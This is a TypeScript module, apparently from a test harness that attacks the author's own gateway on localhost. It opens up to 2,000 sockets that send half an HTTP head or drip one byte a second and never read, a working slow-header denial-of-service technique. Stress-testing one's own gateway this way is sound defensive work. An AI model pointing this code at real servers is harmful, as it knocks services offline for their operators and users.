/** Connections that send half a head, or a head a byte at a time, and read nothing: not even that they were too slow. */
import { connect, type Socket } from "node:net";
import { pause, type Attack, type Round, type Target } from "./attack.ts";
import { addressOf } from "./send.ts";

const everyMs = 50;
const dripEveryMs = 1_000;
const maxSockets = 2_000;

const ports = ({ web, api }: Target): number[] => [web, api].map((url) => Number(new URL(url).port));

function open(port: number, from: number, { note }: Round): Socket {
  const socket = connect({ port, host: "127.0.0.1", localAddress: addressOf(from) });
  socket.on("error", () => undefined);
  socket.once("connect", () => note("opened"));
  socket.once("close", () => note("closed by the gateway"));
  return socket.pause();
}

export const unreadSockets: Attack = {
  name: "unread sockets",
  run: async (target, _user, round) => {
    const sockets: Socket[] = [];
    const drip = setInterval(() => {
      for (const [n, socket] of sockets.entries()) if (n % 4 === 3 && socket.writable) socket.write("x");
    }, dripEveryMs);
    for (let n = 0; n < maxSockets && !round.signal.aborted; n++) {
      const [web = 0, api = 0] = ports(target);
      const socket = open(n % 2 === 0 ? web : api, n, round);
      if (n % 4 !== 0) socket.write("POST /login HTTP/1.1\r\nhost: gateway\r\nx-slow: ");
      sockets.push(socket);
      await pause(everyMs, round.signal);
    }
    await pause(round.seconds * 1_000, round.signal);
    clearInterval(drip);
  },
};
